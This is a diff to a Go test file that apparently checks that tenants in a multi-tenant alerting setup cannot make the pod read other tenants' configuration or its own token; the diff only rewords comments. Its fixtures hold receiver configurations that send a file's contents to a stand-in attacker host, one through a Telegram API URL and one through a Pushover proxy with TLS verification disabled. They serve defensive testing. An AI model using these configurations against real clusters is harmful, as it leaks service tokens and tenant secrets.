@@ -13,14 +13,14 @@ import (
 )
 
 // readers are receivers that read a file and send it to a server of their choice: Telegram
-// as a part of the URL, Pushover through a proxy that may end TLS.
+// as a part of the URL, Pushover through a proxy that may terminate TLS.
 var readers = map[string]string{
 	"botTokenFile": `telegramConfigs: [{chatID: 1, apiURL: "https://attacker.example.org", botTokenFile: "FILE"}]`,
 	"tokenFile":    `pushoverConfigs: [{userKey: {name: s, key: key}, tokenFile: "FILE", httpConfig: {proxyURL: "http://attacker.example.org", tlsConfig: {insecureSkipVerify: true}}}]`,
 	"userKeyFile":  `pushoverConfigs: [{userKeyFile: "FILE", token: {name: s, key: key}}]`,
 }
 
-// TestFilesOfThePod: no tenant gets the configuration of the others or the pod's own token.
+// TestFilesOfThePod: tenants cannot read the configuration of others or the pod's token.
 func TestFilesOfThePod(t *testing.T) {
 	var objects assets.Static
 	for _, namespace := range []string{"team", "default"} {
